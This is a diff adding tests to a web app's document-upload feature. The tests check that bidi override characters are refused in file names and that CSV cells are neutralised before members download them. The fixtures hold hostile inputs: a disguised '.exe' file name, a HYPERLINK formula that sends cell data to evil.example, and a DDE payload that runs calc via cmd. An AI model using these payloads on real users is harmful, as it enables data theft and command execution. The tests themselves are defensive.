@@ -1,6 +1,7 @@
 import { ErrorCodes } from '@sukoyaka/contract';
 import { eq } from 'drizzle-orm';
 import { auditLogs } from '../src/db/schema';
+import { parseCsv } from '../src/platform/csv';
 import { Agent, createMember, createTestContext, createTestOperator, type TestContext } from './helpers';
 
 /*
@@ -199,6 +200,86 @@ describe('the procedures page by operators', () => {
       files: [{ fileName: 'page.html', contentType: 'text/html', contentBase64: csv }],
     });
     expect(disallowed.status).toBe(400);
+  });
+});
+
+describe('issue 24 #14: bidi override and isolate controls are refused in document file names', () => {
+  it.each(['202E', '202A', '202D', '2066', '2069'])(
+    'refuses U+%s in a file name with 400 naming the field, and adds no version',
+    async (code) => {
+      const control = String.fromCodePoint(parseInt(code, 16));
+      const before = (await editor.get('listOperatorDocuments', { associationId })).body.versions.length;
+      const answer = await editor.operatorPost('createOperatorDocumentVersion', {
+        associationId,
+        title: '各種手続き',
+        body: '本文',
+        files: [
+          {
+            fileName: `請求書${control}fdp.exe`,
+            contentType: 'application/pdf',
+            contentBase64: Buffer.from('%PDF-1.4').toString('base64'),
+          },
+        ],
+      });
+      expect(answer.status).toBe(400);
+      expect(JSON.stringify(answer.body)).toContain('ファイル名に文字の向きを変える制御文字は使えません');
+      expect((await editor.get('listOperatorDocuments', { associationId })).body.versions).toHaveLength(before);
+    },
+  );
+});
+
+describe('issue 24 #14: operator-authored CSV reaches members with formulas neutralised', () => {
+  const publishCsv = async (content: Buffer) => {
+    const created = await editor.operatorPost('createOperatorDocumentVersion', {
+      associationId,
+      title: '各種手続き',
+      body: '書類をダウンロードしてください。',
+      files: [{ fileName: '届出.csv', contentType: 'text/csv', contentBase64: content.toString('base64') }],
+    });
+    expect(created.status).toBe(200);
+    await editor.operatorPost('publishOperatorDocumentVersion', { associationId, documentId: created.body.id });
+    const seen = await memberAgent.get('getSiteDocument', { kind: 'paperworks' });
+    const download = await memberAgent.request({ method: 'GET', url: seen.body.files[0].url });
+    expect(download.status).toBe(200);
+    return download.body as string;
+  };
+
+  it('gives every cell a spreadsheet would run as a formula a leading apostrophe; numbers and text stay', async () => {
+    const csv =
+      '項目,記入欄\r\n' +
+      '=HYPERLINK("http://evil.example/?"&A1;"詳しくはこちら"),@SUM(1+1)\r\n' +
+      "+cmd|' /C calc'!A0,-2+3\r\n" +
+      '"\tタブ","\rCR"\r\n' +
+      '＝1+1,＠SUM(1)\r\n' +
+      '-12.5,氏名\r\n';
+    const rows = parseCsv(await publishCsv(Buffer.from(csv, 'utf8'))).map((record) => record.fields);
+    expect(rows).toEqual([
+      ['項目', '記入欄'],
+      [`'=HYPERLINK("http://evil.example/?"&A1;"詳しくはこちら")`, "'@SUM(1+1)"],
+      ["'+cmd|' /C calc'!A0", "'-2+3"],
+      ["'\tタブ", "'\rCR"],
+      ["'＝1+1", "'＠SUM(1)"],
+      ['-12.5', '氏名'],
+    ]);
+  });
+
+  it('reads a Shift_JIS file (Excel’s CSV) and hands it out as UTF-8 with a BOM, neutralised', async () => {
+    // 「氏名,=1+1」 in Shift_JIS.
+    const shiftJis = Buffer.from([0x8e, 0x81, 0x96, 0xbc, 0x2c, 0x3d, 0x31, 0x2b, 0x31, 0x0d, 0x0a]);
+    const served = await publishCsv(shiftJis);
+    expect(served.startsWith('\ufeff')).toBe(true);
+    expect(parseCsv(served).map((record) => record.fields)).toEqual([['氏名', "'=1+1"]]);
+  });
+
+  it('refuses a CSV that is neither UTF-8 nor Shift_JIS with 400 naming the files', async () => {
+    const answer = await editor.operatorPost('createOperatorDocumentVersion', {
+      associationId,
+      title: '各種手続き',
+      body: '本文',
+      files: [{ fileName: '届出.csv', contentType: 'text/csv', contentBase64: Buffer.from([0xff, 0xfe, 0x3d, 0x00]).toString('base64') }],
+    });
+    expect(answer.status).toBe(400);
+    expect(JSON.stringify(answer.body)).toContain('届出.csvの文字コードを読み取れません');
   });
 });
 
